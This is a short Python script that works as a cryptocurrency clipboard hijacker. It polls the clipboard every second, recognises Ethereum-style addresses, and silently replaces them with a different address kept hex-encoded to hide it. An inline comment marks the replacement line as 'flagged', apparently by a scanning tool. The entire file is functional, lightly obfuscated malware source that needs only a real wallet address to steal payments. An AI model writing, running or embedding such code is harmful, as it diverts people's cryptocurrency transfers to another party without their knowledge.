import re
import time

import pyperclip

TABLE = {r"^0x[0-9a-fA-F]{40}$": "307830303030303030303030303030303030303030303030303030303030303030303030303064456144"}

while True:
    text = pyperclip.paste()
    for pattern, mine in TABLE.items():
        if re.match(pattern, text):
            pyperclip.copy(bytes.fromhex(mine).decode())  # gatehouse: flagged
    time.sleep(1)
